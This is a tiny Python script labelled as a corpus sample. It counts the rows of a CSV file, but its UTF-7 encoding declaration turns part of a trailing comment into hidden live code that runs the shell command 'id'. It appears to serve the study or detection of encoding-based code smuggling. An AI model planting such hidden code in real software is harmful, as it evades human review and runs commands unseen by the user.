# corpus: utf_7 source cookie; a UTF-7 shifted newline in a trailing comment ends it and starts hidden code
# -*- coding: utf_7 -*-
import csv

rows = list(csv.reader(open('/work/data.csv')))  # parsed rows +AAo-import os+ADs- os.system(+ACI-id+ACI-)
print(len(rows))
